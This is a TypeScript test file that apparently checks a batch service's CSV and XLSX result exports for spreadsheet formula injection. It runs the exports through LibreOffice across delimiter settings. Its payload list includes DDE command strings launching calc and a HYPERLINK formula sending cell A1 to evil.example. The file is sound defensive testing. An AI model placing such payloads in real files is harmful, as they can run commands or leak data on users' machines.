import fc from 'fast-check'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { call, formOf, runBatch, type Caller } from '@plumbline/testkit/batches'
import { createTestDatabase } from '@plumbline/testkit/postgres'
import { startService } from '@plumbline/testkit/service'
import {
  openSpreadsheet,
  WITHOUT_SPREADSHEET,
  type OpenedAs,
  type Spreadsheet,
} from '@plumbline/testkit/spreadsheet'

// The result file of a hostile upload, opened by a real spreadsheet program.

const DELIMITERS = [[','], [';'], ['\t'], ['\n'], [',', ';', '\t']] as const
const WAYS: readonly (readonly [name: string, OpenedAs])[] = DELIMITERS.flatMap((delimiters) =>
  [true, false].map((quotes): [string, OpenedAs] => [
    `${JSON.stringify(delimiters)}${quotes ? '' : ', quotes ignored'}`,
    { delimiters, quotes },
  ]),
)

const KNOWN = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "x;=cmd|' /C calc'!A0;y",
  'x\t=1+1\ty',
  'x\n=1+1\ny',
  'x\r\n=1+1\r\ny',
  'x,=1+1,y',
  'x; =1+1',
  'x;"=1+1"',
  '";=1+1;"',
  'x"\n=1+1',
  '=HYPERLINK("http://evil.example/?"&A1;"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '＝1+1',
  '"=1+1"',
  "'=1+1",
  ';"',
  '"',
  ';',
  '=1+1;',
]

/** Pieces of formulas, separators and quotes in any order. */
const anyCell = fc
  .array(fc.constantFrom('=1+1', ';', '\t', '\n', '\r\n', ',', '"', "'", ' ', 'x', '\u200b'), {
    minLength: 1,
    maxLength: 6,
  })
  .map((pieces) => pieces.join(''))

describe.skipIf(WITHOUT_SPREADSHEET)('a result file in LibreOffice', () => {
  const stack = new AsyncDisposableStack()
  let spreadsheet: Spreadsheet
  let safe: string
  let raw: string
  let workbook: Uint8Array

  beforeAll(async () => {
    spreadsheet = stack.use(await openSpreadsheet())
    const database = stack.use(await createTestDatabase())
    const service = stack.use(
      await startService({
        databaseUrl: database.url,
        workers: [['email', 'batch']],
      }),
    )
    const account = await service.account({ credits: 5_000 })
    const caller = { service, account, key: account.liveKey }
    const { id } = await runBatch(caller, formOf({ product: 'email' }, hostileList()))
    safe = await resultsOf(caller, id, '')
    raw = await resultsOf(caller, id, '&raw=1')
    const sheet = await call(caller, 'GET', `/v1/batches/${id}/results?format=xlsx`)
    workbook = await sheet.bytes()
  })
  afterAll(() => stack.disposeAsync())

  test.each(WAYS)(
    'a safe file has no formula and a raw one has some, split by %s',
    async (_, way) => {
      const [ofSafe, ofRaw] = await spreadsheet.formulasOf([safe, raw], way)
      expect(ofSafe).toEqual([])
      expect(ofRaw?.length).toBeGreaterThan(10)
    },
  )

  test('a workbook has every cell unchanged, none of them a formula or link', async () => {
    const { rows, formulas, links } = await spreadsheet.cellsOf(workbook)
    expect([formulas, links]).toEqual([[], []])
    const expected = Papa.parse<string[]>(raw, { delimiter: ',', newline: '\r\n' }).data
    const shown = expected.slice(0, -1).map((cells) => cells.map(asShown))
    expect(rows.map((cells) => cells.map(asShown))).toEqual(shown)
  })
})

/** A spreadsheet writes booleans in capitals, and changes line breaks. */
function asShown(cell: string): string {
  return cell === 'true' || cell === 'false' ? cell.toUpperCase() : cell.replaceAll('\r\n', '\n')
}

/** A batch whose header and cells are formulas for a spreadsheet. */
function hostileList(): string {
  const cells = [...KNOWN, ...fc.sample(anyCell, { numRuns: 600, seed: 12 })]
  const rows = cells.map((cell, at) => [
    cell,
    cells[(at * 7) % cells.length] ?? '',
    `person${at}@example.com`,
    cells[(at * 11) % cells.length] ?? '',
  ])
  return Papa.unparse([['=1+1', 'x;=1+1', 'email', 'x\t=1+1'], ...rows], { quotes: true })
}

async function resultsOf(caller: Caller, id: string, query: string): Promise<string> {
  const response = await call(caller, 'GET', `/v1/batches/${id}/results?format=csv${query}`)
  expect(response.status).toBe(200)
  return await response.text()
}
